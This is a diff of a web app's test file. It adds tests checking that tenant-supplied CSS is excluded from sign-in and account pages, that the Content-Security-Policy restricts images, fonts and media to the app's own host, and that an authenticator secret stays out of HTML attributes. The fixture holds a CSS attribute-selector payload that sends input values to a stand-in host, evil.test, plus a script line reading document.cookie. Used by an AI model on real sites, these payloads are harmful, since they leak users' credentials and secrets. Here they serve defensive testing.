@@ -50,6 +50,7 @@ const site: TestSite = {
   ],
   config: {
     custom_script: 'window.__tenant = document.cookie',
+    custom_css: 'input[value^="a"] { background: url("https://evil.test/a") }',
     account: {
       sign_in: 'entrar',
       second_factor: 'codigo',
@@ -114,6 +115,34 @@ describe('a page with a form of sign-in', () => {
     expect(browser.html).not.toContain('wrong-password')
     expect((await browser.open(browser.path)).html).not.toContain('That did not work.')
     expect((await newBrowser().open('/en-US/sign-in?form=session')).html).not.toContain(email)
+  })
+})
+
+describe('a page that shows an account', () => {
+  test('has nothing of the tenant’s CSS, and pictures, fonts and media of its own host alone', async () => {
+    const account = newAccount('paula')
+    const browser = await signedIn(account)
+    await browser.submit(action('add-factor'), { name: 'Celular' })
+    for (const page of [browser, await newBrowser().open('/entrar'), await newBrowser().open('/codigo')]) {
+      expect(page.html).not.toContain('@layer tenant{')
+      const policy = page.response.headers.get('content-security-policy')?.split('; ') ?? []
+      expect(policy).toEqual(
+        expect.arrayContaining(["img-src 'self'", "font-src 'self'", "media-src 'self'"]),
+      )
+    }
+    const other = await newBrowser().open('/')
+    expect(other.html, 'a page without an account').toContain('@layer tenant{')
+    expect(other.response.headers.get('content-security-policy')).toContain("img-src 'self' https: data:")
+  })
+
+  test('has the address of an authenticator app in no attribute', async () => {
+    const browser = await signedIn(newAccount('pia'))
+    await browser.submit(action('add-factor'), { name: 'Celular' })
+    const secret = secretOn(browser.html)
+    expect(browser.html).toContain('otpauth://totp/')
+    const attributes = browser.html.match(/<[a-z][^>]*>/g)?.join('') ?? ''
+    expect(attributes).not.toContain('otpauth')
+    expect(attributes).not.toContain(secret)
   })
 })
 
